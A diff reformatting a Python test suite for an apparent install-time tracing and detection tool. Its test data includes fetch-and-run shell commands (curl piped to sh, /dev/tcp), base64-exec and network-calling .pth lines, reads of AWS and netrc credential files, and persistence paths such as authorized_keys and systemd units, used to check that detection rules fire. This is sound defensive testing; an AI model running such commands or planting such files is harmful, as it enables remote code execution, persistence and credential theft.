@@ -9,8 +9,8 @@ from pyti.reports.trace import TraceReader
 
 HOME = "/home/tester"
 START = '7 1.0 execve("/usr/bin/python3", ["python3"], 0x1) = 0\n'
-CONNECT = '7 2.0 connect(3, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("192.0.2.1")}, 16) = -1 ENETUNREACH (x)\n'
-LOOKUP = '7 2.0 connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("192.0.2.53")}, 16) = -1 ENETUNREACH (x)\n'
+CONNECT = '7 2.0 connect(3, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("192.0.2.1")}, 16) = -1 ENETUNREACH (x)\n'  # noqa: E501 - one line of data
+LOOKUP = '7 2.0 connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("192.0.2.53")}, 16) = -1 ENETUNREACH (x)\n'  # noqa: E501 - one line of data
 AWS = f'7 1.5 openat(AT_FDCWD<{HOME}/work>, "{HOME}/.aws/credentials", O_RDONLY) = 3<{HOME}/.aws/credentials>\n'
 NETRC = f'7 1.5 openat(AT_FDCWD<{HOME}/work>, "{HOME}/.netrc", O_RDONLY) = 3<{HOME}/.netrc>\n'
 
@@ -57,7 +57,7 @@ def test_the_canary_shows_every_family(canary: bytes) -> None:
 
 def test_what_python_and_its_library_do_by_themselves_is_nothing() -> None:
     text = (
-        f'7 1.1 openat(AT_FDCWD<{HOME}/work>, "/usr/lib/python3.11/__pycache__/x.cpython-311.pyc.12", O_WRONLY|O_CREAT) = -1 EACCES (x)\n'
+        f'7 1.1 openat(AT_FDCWD<{HOME}/work>, "/usr/lib/python3.11/__pycache__/x.cpython-311.pyc.12", O_WRONLY|O_CREAT) = -1 EACCES (x)\n'  # noqa: E501 - one line of data
         + created("/dev/null")
         + created("/tmp/abc/x")
         + created(f"{HOME}/work/out.txt")
@@ -108,8 +108,14 @@ def test_the_installer_may_read_netrc_and_an_impostor_may_not() -> None:
 
 @pytest.mark.parametrize(
     ("script", "rule"),
-    [("curl -s http://a.test/x | sh", "COMBO-002"), ("bash <(curl http://a.test)", "COMBO-002"), ("exec 3<>/dev/tcp/192.0.2.1/9", "COMBO-002"), ("wget http://a.test/x", "PROC-002"), ("uname -p 2>/dev/null", "PROC-001")],
-)  # fmt: skip
+    [
+        ("curl -s http://a.test/x | sh", "COMBO-002"),
+        ("bash <(curl http://a.test)", "COMBO-002"),
+        ("exec 3<>/dev/tcp/192.0.2.1/9", "COMBO-002"),
+        ("wget http://a.test/x", "PROC-002"),
+        ("uname -p 2>/dev/null", "PROC-001"),
+    ],
+)
 def test_what_a_shell_is_told_matters(script: str, rule: str) -> None:
     findings = found(ran("/bin/sh", "sh", "-c", script))
     assert rule in findings
@@ -150,7 +156,16 @@ def test_configure_scripts_run_what_they_compiled() -> None:
     }
 
 
-@pytest.mark.parametrize("path", [".bashrc", ".ssh/authorized_keys", ".config/systemd/user/a.service", ".config/autostart/a.desktop", ".local/lib/python3.11/site-packages/usercustomize.py"])  # fmt: skip
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".bashrc",
+        ".ssh/authorized_keys",
+        ".config/systemd/user/a.service",
+        ".config/autostart/a.desktop",
+        ".local/lib/python3.11/site-packages/usercustomize.py",
+    ],
+)
 def test_persistence(path: str) -> None:
     findings = found(created(f"{HOME}/{path}"))
     assert findings["FILE-002"].severity == "high"
@@ -192,14 +207,17 @@ def test_a_child_that_already_ended_is_no_stranger() -> None:
     ("line", "rules"),
     [
         ("import coverage; coverage.process_startup()", ["PTH-001"]),
-        ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ", ["PTH-001"]),
+        (
+            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",  # noqa: E501 - one line of data
+            ["PTH-001"],
+        ),
         ("import os;exec(__import__('base64').b64decode('aaaa'))", ["PTH-002"]),
         ("import urllib.request as u; u.urlopen('http://a.test')", ["PTH-002"]),
         ("import x" + " " * 2000, ["PTH-002"]),
         ("../other/src", []),
         ("# import this", []),
     ],
-)  # fmt: skip
+)
 def test_pth_lines(line: str, rules: list[str]) -> None:
     assert [sighting.rule for sighting in pth_sightings({"pth": [{"name": "a.pth", "lines": [line]}]})] == rules
 
